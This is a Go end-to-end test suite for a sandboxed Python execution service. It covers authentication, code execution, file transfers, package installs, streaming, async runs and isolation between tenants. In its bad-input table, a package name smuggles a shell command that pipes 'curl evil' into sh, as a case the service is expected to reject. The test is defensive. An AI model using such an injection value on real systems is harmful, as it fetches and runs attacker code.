package e2e

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sessionbox/sessionbox/internal/testwait"
)

// TestEndToEnd drives the service through HTTP as a frontend would. The
// subtests share one session, in order: each builds on the state the
// previous ones left.
func TestEndToEnd(t *testing.T) { testEndToEnd(t, newStack(t)) }

// TestEndToEndThirdParty runs the same on dynalite and versitygw instead of
// the in-process DynamoDB and S3: presigned transfers are then checked by a
// server that verifies their signatures.
func TestEndToEndThirdParty(t *testing.T) { testEndToEnd(t, newThirdPartyStack(t)) }

func testEndToEnd(t *testing.T, s *stack) {
	const sid = "e2e-chat"
	base := "/v1/sessions/" + sid

	t.Run("auth", func(t *testing.T) {
		resp, body := s.req("", "POST", base+"/execute", strings.NewReader(`{"code":"1"}`))
		s.problem(401, resp, body)
		if resp.Header.Get("WWW-Authenticate") == "" {
			t.Fatal("401 without WWW-Authenticate")
		}
		resp, body = s.req("sbx_not-a-real-key", "GET", "/v1/sessions", nil)
		s.problem(401, resp, body)
		resp, body = s.req("", "GET", "/v1/sessions", nil, "X-API-Key", s.alice)
		if resp.StatusCode != 200 {
			t.Fatalf("X-API-Key: %d %s", resp.StatusCode, body)
		}
	})

	var firstSandbox string
	t.Run("execute starts the sandbox", func(t *testing.T) {
		resp, body := s.req(s.alice, "GET", base+"/sandbox", nil)
		s.problem(404, resp, body)
		r := s.exec(s.alice, sid, "x = 21\nprint('hello')\nx * 2")
		if !r.Success || r.Stdout != "hello\n" || r.text() != "42" {
			t.Fatalf("result %+v", r)
		}
		var v sessionView
		s.json(s.alice, "GET", base+"/sandbox", nil, &v)
		if v.State != "running" || v.SandboxID == "" || v.SessionID != sid {
			t.Fatalf("status %+v", v)
		}
		firstSandbox = v.SandboxID
	})

	t.Run("state across calls", func(t *testing.T) {
		if r := s.exec(s.alice, sid, "x + 1"); r.text() != "22" {
			t.Fatalf("result %+v", r)
		}
	})

	t.Run("errors in code", func(t *testing.T) {
		r := s.exec(s.alice, sid, "1/0")
		if r.Success || r.Error == nil || r.Error.Name != "ZeroDivisionError" {
			t.Fatalf("result %+v", r)
		}
	})

	t.Run("small files", func(t *testing.T) {
		resp, body := s.req(s.alice, "PUT", base+"/files/content?path=data/hello.csv", strings.NewReader("a,b\n1,2\n"))
		if resp.StatusCode != 200 || !strings.Contains(string(body), `"path":"/home/user/data/hello.csv"`) {
			t.Fatalf("put: %d %s", resp.StatusCode, body)
		}
		resp, body = s.req(s.alice, "GET", base+"/files/content?path=/home/user/data/hello.csv", nil)
		if resp.StatusCode != 200 || string(body) != "a,b\n1,2\n" || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
			resp.Header.Get("Content-Length") != "8" {
			t.Fatalf("get: %d %v %q", resp.StatusCode, resp.Header, body)
		}
		if r := s.exec(s.alice, sid, "open('data/hello.csv').read().count(',')"); r.text() != "2" {
			t.Fatalf("kernel sees %+v", r)
		}
		var list struct {
			Entries []struct{ Name, Path, Type string } `json:"entries"`
		}
		s.json(s.alice, "GET", base+"/files?path=data", nil, &list)
		if len(list.Entries) != 1 || list.Entries[0].Name != "hello.csv" || list.Entries[0].Type != "file" {
			t.Fatalf("list %+v", list)
		}
		s.json(s.alice, "PUT", base+"/files/content?path=data/gone.txt", nil, nil)
		resp, body = s.req(s.alice, "DELETE", base+"/files?path=data/gone.txt", nil)
		if resp.StatusCode != 204 {
			t.Fatalf("delete: %d %s", resp.StatusCode, body)
		}
		resp, body = s.req(s.alice, "GET", base+"/files/content?path=data/gone.txt", nil)
		s.problem(404, resp, body)
	})

	t.Run("24 MiB through presigned upload, import and download", func(t *testing.T) { bigTransfer(t, s, sid) })

	t.Run("install from a local wheel index", func(t *testing.T) { installFromLocalIndex(t, s, sid) })

	t.Run("reset keeps files", func(t *testing.T) {
		s.exec(s.alice, sid, "y = 5")
		resp, body := s.req(s.alice, "POST", base+"/reset", nil)
		if resp.StatusCode != 204 {
			t.Fatalf("reset: %d %s", resp.StatusCode, body)
		}
		if r := s.exec(s.alice, sid, "y"); r.Error == nil || r.Error.Name != "NameError" {
			t.Fatalf("variable survived the reset: %+v", r)
		}
		if r := s.exec(s.alice, sid, "open('data/hello.csv').read() == 'a,b\\n1,2\\n'"); r.text() != "True" {
			t.Fatalf("file lost in reset: %+v", r)
		}
	})

	t.Run("concurrent executes on a new session start one sandbox", func(t *testing.T) {
		const n = 50
		var wg sync.WaitGroup
		errs := make(chan string, n)
		for i := range n {
			wg.Add(1)
			go func() {
				defer wg.Done()
				body := strings.NewReader(fmt.Sprintf(`{"code":"%d * 2"}`, i))
				req, _ := http.NewRequest("POST", s.url+"/v1/sessions/crowd/execute", body)
				req.Header.Set("Authorization", "Bearer "+s.alice)
				resp, err := s.client.Do(req)
				if err != nil {
					errs <- err.Error()
					return
				}
				defer resp.Body.Close()
				var r execResult
				if err := json.NewDecoder(resp.Body).Decode(&r); err != nil || resp.StatusCode != 200 || r.text() != fmt.Sprint(i*2) {
					errs <- fmt.Sprintf("call %d: status %d %+v %v", i, resp.StatusCode, r, err)
				}
			}()
		}
		wg.Wait()
		close(errs)
		for e := range errs {
			t.Error(e)
		}
		if ids := s.sessionSandboxes("alice", "crowd"); len(ids) != 1 {
			t.Fatalf("sandboxes of the session: %v", ids)
		}
		s.json(s.alice, "POST", "/v1/sessions/crowd/sandbox/stop", nil, nil)
	})

	t.Run("live NDJSON streaming", func(t *testing.T) { streamLive(t, s, sid) })

	t.Run("async runs", func(t *testing.T) { asyncRuns(t, s, sid) })

	t.Run("one principal cannot see another's", func(t *testing.T) {
		var list struct {
			Sessions []sessionView `json:"sessions"`
		}
		s.json(s.bob, "GET", "/v1/sessions", nil, &list)
		if len(list.Sessions) != 0 {
			t.Fatalf("another principal sees %+v", list)
		}
		// A key stored for another tenant is no key here at all.
		for _, path := range []string{"/v1/sessions", base + "/sandbox"} {
			resp, body := s.req(s.other, "GET", path, nil)
			s.problem(401, resp, body)
		}
		resp, body := s.req(s.bob, "GET", base+"/sandbox", nil)
		s.problem(404, resp, body)
		var mine sessionView
		s.json(s.alice, "GET", base+"/sandbox", nil, &mine)
		// The same session id names bob's own session: a sandbox of his,
		// without alice's files or variables.
		resp, body = s.req(s.bob, "GET", base+"/files/content?path=data/hello.csv", nil)
		s.problem(404, resp, body)
		if r := s.exec(s.bob, sid, "'x' in globals()"); r.text() != "False" {
			t.Fatalf("bob's kernel knows alice's x: %+v", r)
		}
		var his sessionView
		s.json(s.bob, "GET", base+"/sandbox", nil, &his)
		if his.SandboxID == "" || his.SandboxID == mine.SandboxID {
			t.Fatalf("bob's sandbox %q, alice's %q", his.SandboxID, mine.SandboxID)
		}
		s.json(s.bob, "POST", base+"/sandbox/stop", nil, nil)
		s.json(s.alice, "GET", "/v1/sessions?limit=10", nil, &list)
		if len(list.Sessions) != 2 || list.Sessions[1].SessionID != sid || list.Sessions[1].SandboxID != mine.SandboxID {
			t.Fatalf("alice sees %+v", list)
		}
	})

	t.Run("bad input", func(t *testing.T) {
		cases := []struct {
			method, path, body string
			status             int
		}{
			{"POST", base + "/execute", `{"code":`, 400},
			{"POST", base + "/execute", `{"code":"1","extra":true}`, 400},
			{"POST", "/v1/sessions/bad%20id/execute", `{"code":"1"}`, 400},
			{"POST", base + "/install", `{"packages":["x; curl evil | sh"]}`, 400},
			{"GET", base + "/files/content?path=a%00b", "", 400},
			{"GET", "/v1/sessions?limit=1000", "", 400},
			{"GET", "/v1/runs/nope", "", 404},
			{"DELETE", base + "/execute", "", 405},
			{"GET", "/v1/nowhere", "", 404},
		}
		for _, tc := range cases {
			var body *strings.Reader
			if tc.body != "" {
				body = strings.NewReader(tc.body)
			}
			var resp *http.Response
			var b []byte
			if body != nil {
				resp, b = s.req(s.alice, tc.method, tc.path, body)
			} else {
				resp, b = s.req(s.alice, tc.method, tc.path, nil)
			}
			s.problem(tc.status, resp, b)
		}
	})

	t.Run("a sandbox killed behind the service's back is replaced", func(t *testing.T) {
		var v sessionView
		s.json(s.alice, "GET", base+"/sandbox", nil, &v)
		if err := s.sandboxes.Kill(context.Background(), v.SandboxID); err != nil {
			t.Fatal(err)
		}
		r := s.exec(s.alice, sid, "'x' in globals()")
		if !r.Restarted || r.text() != "False" {
			t.Fatalf("after the kill: %+v", r)
		}
		s.json(s.alice, "GET", base+"/sandbox", nil, &v)
		if v.State != "running" || v.SandboxID == "" || v.SandboxID == firstSandbox {
			t.Fatalf("after the kill %+v", v)
		}
		firstSandbox = v.SandboxID
	})

	t.Run("stop then execute restarts", func(t *testing.T) {
		var v sessionView
		s.json(s.alice, "POST", base+"/sandbox/stop", nil, &v)
		if v.State != "stopped" {
			t.Fatalf("after stop %+v", v)
		}
		if r := s.exec(s.alice, sid, "'x' in globals()"); r.text() != "False" {
			t.Fatalf("a fresh kernel must not know x: %+v", r)
		}
		s.json(s.alice, "GET", base+"/sandbox", nil, &v)
		if v.State != "running" || v.SandboxID == "" || v.SandboxID == firstSandbox {
			t.Fatalf("after restart %+v (first sandbox %s)", v, firstSandbox)
		}
	})
}

// streamLive checks the stream starts, and output reaches the client, while
// the code still runs: the code waits for a file that the test writes only
// after it has read the start line and the first output.
func streamLive(t *testing.T, s *stack, sid string) {
	code := "import os, time\nprint('waiting', flush=True)\n" +
		"for _ in range(600):\n    if os.path.exists('go.flag'): break\n    time.sleep(0.05)\n" +
		"print('released')\n'done'"
	req, _ := http.NewRequest("POST", s.url+"/v1/sessions/"+sid+"/execute", strings.NewReader(fmt.Sprintf(`{"code":%q}`, code)))
	req.Header.Set("Authorization", "Bearer "+s.alice)
	req.Header.Set("Accept", "application/x-ndjson")
	resp, err := s.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/x-ndjson" {
		t.Fatalf("status %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	// The start line comes first, while the code is still blocked on the
	// flag, so it was sent when the call reached the sandbox, not at its end.
	if !sc.Scan() || sc.Text() != `{"type":"start"}` {
		t.Fatalf("first line %q (%v), want the start line", sc.Text(), sc.Err())
	}
	var lines []map[string]any
	released := false
	for sc.Scan() {
		var l map[string]any
		if err := json.Unmarshal(sc.Bytes(), &l); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		if l["type"] == "start" {
			t.Fatalf("a second start line: %v", lines)
		}
		lines = append(lines, l)
		if !released && l["type"] == "stdout" && strings.Contains(l["text"].(string), "waiting") {
			released = true
			s.json(s.alice, "PUT", "/v1/sessions/"+sid+"/files/content?path=go.flag", nil, nil)
		}
	}
	if !released {
		t.Fatalf("never saw the first line live: %v", lines)
	}
	last := lines[len(lines)-1]
	var stdout strings.Builder
	for _, l := range lines {
		if l["type"] == "stdout" {
			stdout.WriteString(fmt.Sprint(l["text"]))
		}
	}
	if summary, _ := last["summary"].(map[string]any); last["type"] != "done" || summary["success"] != true ||
		!strings.Contains(stdout.String(), "released") {
		t.Fatalf("last line %v after stdout %q", last, stdout.String())
	}
}

func asyncRuns(t *testing.T, s *stack, sid string) {
	var first, again struct {
		RunID  string `json:"runId"`
		Status string `json:"status"`
	}
	resp := s.json(s.alice, "POST", "/v1/sessions/"+sid+"/runs", map[string]any{"code": "6 * 7"}, &first, "Idempotency-Key", "e2e-run-1")
	if resp.StatusCode != 202 || first.RunID == "" || resp.Header.Get("Location") != "/v1/runs/"+first.RunID {
		t.Fatalf("submit: %d %+v %s", resp.StatusCode, first, resp.Header.Get("Location"))
	}
	s.json(s.alice, "POST", "/v1/sessions/"+sid+"/runs", map[string]any{"code": "6 * 7"}, &again, "Idempotency-Key", "e2e-run-1")
	if again.RunID != first.RunID {
		t.Fatalf("same idempotency key, new run: %s vs %s", again.RunID, first.RunID)
	}
	var run struct {
		RunID, SessionID, Status string
		Result                   *execResult
	}
	_ = testwait.Poll(t, 2*time.Minute, func() error {
		s.json(s.alice, "GET", "/v1/runs/"+first.RunID, nil, &run)
		if run.Status != "succeeded" && run.Status != "failed" {
			return fmt.Errorf("run still %s", run.Status)
		}
		return nil
	})
	if run.Status != "succeeded" || run.SessionID != sid || run.Result == nil || run.Result.text() != "42" {
		t.Fatalf("run %+v", run)
	}
	resp, body := s.req(s.bob, "GET", "/v1/runs/"+first.RunID, nil)
	s.problem(404, resp, body)
}

// installFromLocalIndex serves a PEP 503 index of a wheel built here from
// inside the sandbox (sandboxes have no network to the host; PyPI is out of
// reach anyway) and installs from it through the API, streaming.
func installFromLocalIndex(t *testing.T, s *stack, sid string) {
	base := "/v1/sessions/" + sid
	name, wheel := buildWheel(t, "sbxdemo", "1.0", "from-the-wheel")
	resp, body := s.req(s.alice, "PUT", base+"/files/content?path=/home/user/index/sbxdemo/"+name, bytes.NewReader(wheel))
	if resp.StatusCode != 200 || !strings.Contains(string(body), fmt.Sprintf(`"size":%d`, len(wheel))) {
		t.Fatalf("put wheel: %d %s", resp.StatusCode, body)
	}
	page := fmt.Sprintf(`<!DOCTYPE html><html><body><a href="%s">%s</a></body></html>`, name, name)
	resp, body = s.req(s.alice, "PUT", base+"/files/content?path=/home/user/index/sbxdemo/index.html", strings.NewReader(page))
	if resp.StatusCode != 200 {
		t.Fatalf("put index: %d %s", resp.StatusCode, body)
	}
	r := s.exec(s.alice, sid, "import subprocess, socket, sys, time\n"+
		"srv = subprocess.Popen([sys.executable, '-m', 'http.server', '--bind', '127.0.0.1', '--directory', '/home/user/index', '8765'],"+
		" stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"+
		"for _ in range(100):\n    try:\n        socket.create_connection(('127.0.0.1', 8765), 0.2).close(); break\n"+
		"    except OSError: time.sleep(0.05)\n'up'")
	if r.text() != "up" && r.text() != "'up'" {
		t.Fatalf("index server: %+v", r)
	}
	req, _ := http.NewRequest("POST", s.url+base+"/install",
		strings.NewReader(`{"packages":["sbxdemo==1.0"],"indexUrl":"http://127.0.0.1:8765/"}`))
	req.Header.Set("Authorization", "Bearer "+s.alice)
	req.Header.Set("Accept", "application/x-ndjson")
	hresp, err := s.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer hresp.Body.Close()
	sc := bufio.NewScanner(hresp.Body)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	var last map[string]any
	outputLines := 0
	for sc.Scan() {
		last = nil
		if err := json.Unmarshal(sc.Bytes(), &last); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		if last["type"] == "stdout" || last["type"] == "stderr" {
			outputLines++
		}
	}
	result, _ := last["summary"].(map[string]any)
	if last["type"] != "done" || result["success"] != true || outputLines == 0 {
		t.Fatalf("install ended with %v after %d output lines", last, outputLines)
	}
	if r := s.exec(s.alice, sid, "srv.kill(); srv.wait(); 'stopped'"); !r.Success {
		t.Fatalf("stop the index server: %+v", r.Error)
	}
	// pip installs into the user site when the system Python is externally
	// managed; a kernel started before that directory existed does not have
	// it on sys.path, so the package is checked in a fresh kernel.
	if resp, body := s.req(s.alice, "POST", base+"/reset", nil); resp.StatusCode != 204 {
		t.Fatalf("reset: %d %s", resp.StatusCode, body)
	}
	if r := s.exec(s.alice, sid, "import sbxdemo; sbxdemo.VALUE == 'from-the-wheel'"); r.text() != "True" {
		t.Fatalf("installed package: %+v %+v", r, r.Error)
	}
}

// bigTransfer sends 24 MiB the way a browser would: straight to the
// presigned URL, then import into the sandbox, then back out through a
// presigned download, checking the bytes at every step.
func bigTransfer(t *testing.T, s *stack, sid string) {
	base := "/v1/sessions/" + sid
	data := make([]byte, 24<<20)
	for i := range data {
		data[i] = byte(i*7 + i>>11)
	}
	sum := sha256.Sum256(data)
	want := hex.EncodeToString(sum[:])

	var up struct {
		UploadURL  string            `json:"uploadUrl"`
		Method     string            `json:"method"`
		Headers    map[string]string `json:"headers"`
		ExpiresAt  time.Time         `json:"expiresAt"`
		TransferID string            `json:"transferId"`
	}
	s.json(s.alice, "POST", base+"/files/upload-url", map[string]any{"path": "big/data.bin", "sizeBytes": len(data),
		"contentType": "application/octet-stream"}, &up)
	if up.UploadURL == "" || up.Method != "PUT" || up.TransferID == "" || !up.ExpiresAt.After(time.Now()) {
		t.Fatalf("upload ticket %+v", up)
	}
	req, _ := http.NewRequest(up.Method, up.UploadURL, bytes.NewReader(data))
	for k, v := range up.Headers {
		req.Header.Set(k, v)
	}
	req.ContentLength = int64(len(data))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("upload to S3: %d %s", resp.StatusCode, body)
	}

	var entry struct {
		Path string `json:"path"`
		Size int64  `json:"size"`
	}
	s.json(s.alice, "POST", base+"/files/import", map[string]any{"transferId": up.TransferID}, &entry)
	if entry.Path != "/home/user/big/data.bin" || entry.Size != int64(len(data)) {
		t.Fatalf("imported %+v", entry)
	}
	r := s.exec(s.alice, sid, "import hashlib\nhashlib.sha256(open('big/data.bin','rb').read()).hexdigest() == '"+want+"'")
	if r.text() != "True" {
		t.Fatalf("the sandbox holds other bytes: %+v", r)
	}

	// Too large for the inline route: the answer points to the transfer.
	resp, body = s.req(s.alice, "GET", base+"/files/content?path=big/data.bin", nil)
	s.problem(413, resp, body)

	var down struct {
		DownloadURL string    `json:"downloadUrl"`
		ExpiresAt   time.Time `json:"expiresAt"`
		SizeBytes   int64     `json:"sizeBytes"`
	}
	s.json(s.alice, "POST", base+"/files/download-url", map[string]any{"path": "big/data.bin"}, &down)
	if down.SizeBytes != int64(len(data)) || !down.ExpiresAt.After(time.Now()) {
		t.Fatalf("download ticket %+v", down)
	}
	resp, err = http.Get(down.DownloadURL)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	h := sha256.New()
	n, err := io.Copy(h, resp.Body)
	if err != nil || resp.StatusCode != 200 || n != int64(len(data)) || hex.EncodeToString(h.Sum(nil)) != want {
		t.Fatalf("download: status %d, %d bytes, %v", resp.StatusCode, n, err)
	}
	if resp, body := s.req(s.alice, "DELETE", base+"/files?path=big", nil); resp.StatusCode != 204 {
		t.Fatalf("delete: %d %s", resp.StatusCode, body)
	}
}
